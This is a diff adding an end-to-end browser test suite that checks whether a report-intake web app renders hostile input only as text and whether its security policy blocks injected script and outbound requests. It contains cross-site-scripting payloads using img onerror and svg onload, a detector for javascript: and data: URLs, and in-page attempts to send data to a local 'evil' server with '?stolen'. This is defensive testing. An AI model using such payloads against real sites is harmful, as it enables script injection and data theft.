@@ -1,0 +1,302 @@
+import { createServer } from 'node:http'
+import type { AddressInfo } from 'node:net'
+import type { Browser, Page } from 'playwright-core'
+import { afterAll, beforeAll, describe, expect, test } from 'vitest'
+import { caseKeyWords, describePayload } from '../../crypto/index.ts'
+import { launchChromium } from '../support/browsers.ts'
+import { go } from '../support/console.ts'
+import { hostileTexts } from '../support/hostile-texts.ts'
+import { description, foundOffice, state } from '../support/office.ts'
+import { act, newReporter, sealReport } from '../support/reporters.ts'
+import { type Server, startNode } from '../support/servers.ts'
+import { enterCase, type Lived, liveThrough, reportInPage } from '../support/whole-journey.ts'
+
+/** One line with all of it: a page that takes any part for more than text gives itself away. */
+const everything = hostileTexts.join(' | ')
+/** For fields with a limit: what is most likely to run. */
+const brief = `"><img src=x onerror=window.hit=1 data-hit><svg/onload=window.hit=1>`
+
+interface Watched {
+  readonly complaints: string[]
+  readonly left: string[]
+}
+
+/** Sees whatever a script that ran would do, and whatever the policy had to stop. */
+async function watch(page: Page, { complaints, left }: Watched): Promise<void> {
+  page.on('dialog', (dialog) => {
+    complaints.push(`a dialog: ${dialog.message()}`)
+    return dialog.dismiss()
+  })
+  page.on('pageerror', (error) => complaints.push(error.message))
+  page.on('console', (message) => {
+    if (/Content.Security|Trusted|Refused|violat/i.test(message.text())) complaints.push(message.text())
+  })
+  page.on('request', (request) => {
+    const { hostname } = new URL(request.url())
+    if (hostname !== 'localhost' && hostname !== '') left.push(request.url())
+  })
+  await page.addInitScript(() => {
+    document.addEventListener('securitypolicyviolation', ({ violatedDirective, sample }) =>
+      console.error(`violation of ${violatedDirective}: ${sample}`),
+    )
+  })
+}
+
+/** Nothing ran, nothing became an element, nothing was asked of another machine. */
+async function expectOnlyText(page: Page): Promise<void> {
+  const seen = await page.evaluate(() => ({
+    hits: (window as unknown as { hit?: number }).hit ?? 0,
+    elements: [...document.querySelectorAll('[data-hit], iframe, object, embed, base, meta[http-equiv=refresh]')].map(
+      (element) => element.outerHTML,
+    ),
+    handlers: [...document.querySelectorAll('*')]
+      .filter((element) => element.getAttributeNames().some((name) => name.startsWith('on')))
+      .map((element) => element.outerHTML),
+    addresses: [...document.querySelectorAll<HTMLElement>('[href], [src], [action]')]
+      .flatMap((element) => ['href', 'src', 'action'].map((name) => element.getAttribute(name) ?? ''))
+      .filter((address) => /^\s*(javascript|data|vbscript):|evil/i.test(address)),
+  }))
+  expect(seen).toEqual({ hits: 0, elements: [], handlers: [], addresses: [] })
+}
+
+describe('a case in which everybody writes script in every field', () => {
+  let server: Server
+  let browser: Browser
+  let lived: Lived
+  const seen: Watched = { complaints: [], left: [] }
+
+  beforeAll(async () => {
+    server = await startNode()
+    browser = await launchChromium()
+    lived = await liveThrough({
+      ...{ server, browser },
+      say: () => everything,
+      chiefName: `Ines ${brief}`,
+      watch: (page) => watch(page, seen),
+    })
+  })
+  afterAll(async () => {
+    await browser?.close()
+    await server?.stop()
+  })
+
+  test('shows it to the officer as it was written', async () => {
+    const { page } = lived.chief
+    const read = await page.locator('main').innerText()
+    for (const text of hostileTexts.slice(0, 8)) expect(read).toContain(text)
+    await expectOnlyText(page)
+  })
+
+  test('shows it to the reporter as it was written', async () => {
+    const { reporter } = lived
+    for (const folded of await reporter.locator('#opened details').all())
+      await folded.evaluate((element) => element.setAttribute('open', ''))
+    const read = await reporter.locator('#opened').innerText()
+    for (const text of hostileTexts.slice(0, 8)) expect(read).toContain(text)
+    expect(read).toContain(`Ines ${brief}`)
+    await expectOnlyText(reporter)
+  })
+
+  test('shows it in the inbox, among the people and on the keys page', async () => {
+    for (const view of ['Inbox', 'People', 'Keys']) {
+      await go(lived.chief, view)
+      await lived.chief.page.locator('main h1').waitFor({ state: 'attached' })
+      await expectOnlyText(lived.chief.page)
+    }
+  })
+
+  test('shows what a reporter sealed by other means, with a summary of their own making', async () => {
+    const body = {
+      type: 'report',
+      kind: 'report',
+      mode: 'open',
+      language: brief,
+      story: everything,
+      title: brief,
+      category: brief,
+      capacity: brief,
+    }
+    const small = '<svg/onload=window.hit=1 data-hit>'
+    const owed = { what: small, due: small }
+    const summary = {
+      title: `Hostile ${brief}`,
+      kind: 'report',
+      state: 'received',
+      received: brief,
+      owed,
+      last: 'reporter',
+    }
+    const identity = { type: 'identity', name: everything }
+    for (const made of [summary, { ...summary, kind: brief, state: brief }, brief]) {
+      const reporter = await newReporter(server.origin)
+      await reporter.client.call('submitReport', {
+        body: await sealReport(reporter, { body, identity, summary: made }),
+      })
+    }
+    const { page } = lived.chief
+    await go(lived.chief, 'People')
+    await go(lived.chief, 'Inbox')
+    const line = page.getByRole('row', { name: `Hostile ${brief}` })
+    await line.waitFor()
+    await expectOnlyText(page)
+    await line.getByRole('link').first().click()
+    await page.locator('.said').first().waitFor()
+    expect(await page.locator('main').innerText()).toContain(hostileTexts[2])
+    await expectOnlyText(page)
+  })
+
+  test('and a page has nothing to complain of, and asks no other machine for anything', () => {
+    expect(seen.complaints).toEqual([])
+    expect(seen.left).toEqual([])
+    expect(lived.chief.complaints).toEqual([])
+  })
+})
+
+describe('somebody who seals by other means than our pages', () => {
+  let server: Server
+  let browser: Browser
+  const seen: Watched = { complaints: [], left: [] }
+  let page: Page
+
+  beforeAll(async () => {
+    server = await startNode()
+    browser = await launchChromium()
+    page = await (await browser.newContext()).newPage()
+    await watch(page, seen)
+  })
+  afterAll(async () => {
+    await browser?.close()
+    await server?.stop()
+  })
+
+  test('an office that describes itself in script is shown as text, and so are its people and what they write', async () => {
+    const office = await foundOffice(server)
+    const texts = { en: everything.slice(0, 1_900) }
+    const hostile = { ...description, name: texts, contacts: texts, emergency: texts }
+    await state(office, 'describe', describePayload(hostile))
+    const { memberId } = office.chief
+    await state(office, 'change', { memberId, role: 'chief', clearance: 1, label: brief })
+
+    const reporter = await newReporter(server.origin)
+    const strange = Object.fromEntries(hostileTexts.slice(0, 12).map((text, place) => [`${brief}${place}`, text]))
+    const body = {
+      type: 'report',
+      kind: 'report',
+      mode: 'open',
+      language: brief,
+      story: everything,
+      title: brief,
+      category: brief,
+      ...strange,
+    }
+    await reporter.client.call('submitReport', {
+      body: await sealReport(reporter, { body, identity: { type: 'identity', name: everything } }),
+    })
+    const say = (text: Record<string, string>) =>
+      act(office.chief, reporter.address, { act: 'say', lane: 'shared', body: text })
+    await say({ type: 'acknowledgement', text: everything, language: brief })
+    await say({ type: 'state', to: 'waiting', text: everything })
+    await say({ type: brief, text: everything })
+    await say({ type: 'state', to: brief, text: brief })
+    await act(office.chief, reporter.address, {
+      act: 'open-identity',
+      body: { type: 'identity-opened', reason: everything },
+    })
+
+    for (const path of ['', 'report/', 'case/', 'help/']) {
+      await page.goto(`${server.origin}/en/${path}`)
+      await page.locator('#fingerprint').waitFor()
+      await expectOnlyText(page)
+    }
+    await enterCase(page, server.origin, caseKeyWords(reporter.caseKey, 'english'))
+    for (const folded of await page.locator('#opened details').all())
+      await folded.evaluate((element) => element.setAttribute('open', ''))
+    expect(await page.locator('#opened').innerText()).toContain(hostileTexts[2])
+    await expectOnlyText(page)
+    await reportInPage(page, server.origin, () => brief)
+    await expectOnlyText(page)
+    expect(seen).toEqual({ complaints: [], left: [] })
+  })
+})
+
+describe('a script that got in all the same', () => {
+  let server: Server
+  let browser: Browser
+  /** Another machine, which counts who asks it for anything. */
+  const elsewhere = createServer((_request, response) => response.end(String(++asked)))
+  let asked = 0
+  let evil = ''
+  beforeAll(async () => {
+    server = await startNode()
+    browser = await launchChromium()
+    await new Promise<void>((listening) => elsewhere.listen(0, 'localhost', listening))
+    evil = `http://localhost:${(elsewhere.address() as AddressInfo).port}/`
+  })
+  afterAll(async () => {
+    await browser?.close()
+    await server?.stop()
+    elsewhere.close()
+  })
+
+  test.each(['', 'report/', 'case/', 'office/'])(
+    'finds on /en/%s no way to make markup, to load anything or to send anything out',
+    async (path) => {
+      const page = await (await browser.newContext()).newPage()
+      await page.goto(`${server.origin}/en/${path}`)
+      const outcome = await page.evaluate(async (other) => {
+        const refused = async (attempt: () => unknown): Promise<string> => {
+          // In a task of its own: the debugger, which runs this, may evaluate what a page may not.
+          await new Promise((turn) => setTimeout(turn))
+          try {
+            await attempt()
+            return 'allowed'
+          } catch (error) {
+            return (error as Error).name
+          }
+        }
+        const div = document.body.appendChild(document.createElement('div'))
+        const ran = async (element: HTMLElement) => {
+          document.body.append(element)
+          await new Promise((done) => setTimeout(done, 200))
+          return (window as unknown as { hit?: number }).hit ?? 0
+        }
+        const inline = document.createElement('script')
+        return {
+          markup: await refused(() => (div.innerHTML = '<b>x</b>')),
+          document: await refused(() => document.write('<b>x</b>')),
+          address: await refused(() => (document.createElement('script').src = `${other}x.js`)),
+          text: await refused(() => (inline.text = 'window.hit = 1')),
+          eval: await refused(() => window['eval' as 'parseInt']('window.hit = 1')),
+          function: await refused(() => new Function('window.hit = 1')()),
+          worker: await refused(() => new Worker('/assets/x.js')),
+          policy: await refused(() =>
+            (
+              window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } }
+            ).trustedTypes.createPolicy('mine', {}),
+          ),
+          fetch: await refused(() => fetch(`${other}?stolen`)),
+          beacon: navigator.sendBeacon(`${other}?stolen`) ? await ran(document.createElement('b')) : 0,
+          image: await ran(Object.assign(document.createElement('img'), { src: `${other}x.png` })),
+          frame: await ran(Object.assign(document.createElement('iframe'), { src: other })),
+          form: await refused(() => {
+            const form = Object.assign(document.createElement('form'), {
+              action: other,
+              method: 'post',
+            })
+            document.body.append(form)
+            form.submit()
+          }),
+        }
+      }, evil)
+      expect(outcome).toEqual({
+        ...{ markup: 'TypeError', document: 'TypeError', address: 'TypeError', text: 'TypeError', eval: 'EvalError' },
+        ...{ function: 'EvalError', worker: 'TypeError', policy: 'TypeError', fetch: 'TypeError' },
+        ...{ beacon: 0, image: 0, frame: 0, form: 'allowed' },
+      })
+      await page.waitForTimeout(300)
+      expect(page.url()).toBe(`${server.origin}/en/${path}`)
+      expect(asked).toBe(0)
+      await page.close()
+    },
+  )
+})
